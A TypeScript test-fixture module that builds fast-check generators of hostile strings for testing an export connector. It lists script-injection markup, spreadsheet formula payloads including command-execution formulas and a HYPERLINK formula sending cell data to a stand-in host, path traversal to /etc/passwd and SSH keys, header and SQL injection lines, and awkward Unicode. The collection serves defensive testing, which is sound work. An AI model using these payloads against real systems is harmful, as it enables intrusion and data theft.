import * as fc from "fast-check";
import type { Json } from "../../src/connectors/connector.ts";

/** The global that every planted script would set, and the host that every planted address would call. */
export const planted = { global: "plantedScriptRan", host: "planted.example" } as const;

const run = `globalThis.${planted.global}=1`;

const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><style>*{display:none}</style><script>${run}</script>`,
  `</textarea></noscript></template><svg onload="${run}">`,
  `--><script>${run}</script><!--`,
  `<!--`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<img src=x onerror=${run}>`,
  `"><img src=//${planted.host}/i onerror=${run}>`,
  `' onmouseover='${run}' style='background:url(//${planted.host}/b)`,
  `" autofocus onfocus="${run}" x="`,
  `\` onload=${run} \``,
  `</td></tr></table></div></section></main></body></html><h1>gone</h1>`,
  `<base href="https://${planted.host}/"><meta http-equiv="refresh" content="0;url=https://${planted.host}/">`,
  `<link rel=stylesheet href=https://${planted.host}/s><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<form action=https://${planted.host}/><input name=q><button>go`,
  `<plaintext>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;`,
  `&#x3c;script`,
  `&NotExists; &amp &#0; &#xD800; &#x110000;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<a href="javascript:${run}">x</a>`,
  `data:text/html,<script>${run}</script>`,
  "{{title}} {{controller}} $t(title) ${1} %s %00",
];

const formulas = [
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("https://${planted.host}/?"&A1)`,
  "+1+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "a;=1+1;",
  'a;"=1+1',
  ';""=1+1;"',
  'a"\n"=1+1',
  'a\t"=1+1\t',
  "a\u2028=1+1",
  "\uFEFF=1+1",
  "\u200B\u200E=1+1",
  '"=1+1"',
  "'=1+1",
  "-5;=1+1",
  "%0A=1+1",
];

const paths = [
  "../../../etc/passwd",
  "..\\..\\..\\Windows\\win.ini",
  "/etc/passwd",
  "\\\\server.example\\share\\x.txt",
  "//server.example/share/x.txt",
  "C:\\autoexec.bat",
  "C:x.txt",
  "\\\\?\\C:\\x",
  "file.txt:hidden.exe",
  "file.txt::$DATA",
  "CON",
  "nul.txt",
  "com1.tar.gz",
  "COM¹.txt",
  "aux .txt",
  "CONIN$",
  "...",
  ". . .",
  "trailing.",
  "trailing ",
  "~/.ssh/authorized_keys",
  "%2e%2e%2fx",
  "..\u2215..\u2215x",
  "..\uFF0F..\uFF0Fx",
  "desktop.ini",
  "manifest.json",
  "index.html",
  "photo\u202Egpj.exe",
  "a\r\nContent-Type: text/html\r\n\r\n<b>",
  "cafe\u0301.pdf",
  "caf\u00E9.pdf",
  "ﬁle.txt",
  "file.txt",
  "FILE.TXT",
  "Straße",
  "STRASSE",
  "ı.txt",
  "I.txt",
  "İ.txt",
  "K.txt",
  "\u212A.txt",
];

const characters = [
  "\u0000\u0001\u0008\u000B\u000C\u001B[31m\u007F\u0085\u009F",
  "\u202E\u2066\u2067\u2068\u2069\u200F",
  "\u200B\u200C\u200D\u2060\uFEFF\u00AD",
  "\u2028\u2029\u0085",
  "\uD800",
  "\uDC00\uD800",
  "x\uDBFF",
  "😀👩‍👩‍👧‍👦🏴\u{E0067}\u{E0062}\u{E007F}",
  "\u{10FFFF}\uFFFE\uFFFF\u{1FFFE}",
  "東京 العربية עברית हिन्दी",
  "e\u0301\u0301\u0301".repeat(20),
];

const people = [
  '"a\\"b"@x.be',
  '"a\nb"@x.be',
  "ann@x.be\r\nBcc: all@planted.example",
  "ann@x.be, other@planted.example",
  "<ann@x.be>",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "1e999",
  "0x1F",
  "[object Object]",
  "\\",
  '\\"',
  '","x":"',
  "]}",
  "'; DROP TABLE tblclients; --",
];

/** What has broken exports elsewhere: markup, formulas, path tricks, characters of every awkward kind, odd words. */
export const hostileTexts: readonly string[] = [...markup, ...formulas, ...paths, ...characters, ...people];

const signs = ";,\t\r\n\0\"'=+-@ <>&`/\\:.".split("");

/** Any text at all, the known tricks, and those two mixed. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc
    .array(fc.oneof(fc.constantFrom(...hostileTexts), fc.constantFrom(...signs)), {
      maxLength: 5,
    })
    .map((parts) => parts.join("")),
);

const leaf = fc.oneof(hostileText, fc.integer(), fc.double(), fc.boolean(), fc.constant(null));

const { value } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    leaf,
    fc.array(tie("value"), { maxLength: 3 }),
    fc.dictionary(hostileText, tie("value"), { maxKeys: 3, noNullPrototype: true }),
  ),
}));

/** A record as an API could send it: any keys, any nesting. */
export const hostileRecord: fc.Arbitrary<{ [key: string]: Json }> = fc
  .dictionary(hostileText, value, { maxKeys: 6, noNullPrototype: true })
  .map((record) => JSON.parse(JSON.stringify(record)) as { [key: string]: Json });

/**
 * The same shape in plain words: equal texts and keys become the same word, different ones different words. Texts of blanks
 * alone stay, so that whatever treats them apart does so here as well, and so do the keys in `kept`.
 */
export function harmless<T>(original: T, kept: readonly string[]): T {
  const words = new Map(kept.map((key) => [key, key]));
  const wordFor = (text: string): string => {
    const word = words.get(text) ?? `word${words.size}`;
    words.set(text, word);
    return word;
  };
  const visit = (one: unknown): unknown => {
    if (typeof one === "string") return one.trim() === "" ? one : wordFor(one);
    if (typeof one !== "object" || one === null) return one;
    if (Array.isArray(one)) return one.map(visit);
    return Object.fromEntries(Object.entries(one).map(([key, inner]) => [wordFor(key), visit(inner)]));
  };
  return visit(original) as T;
}
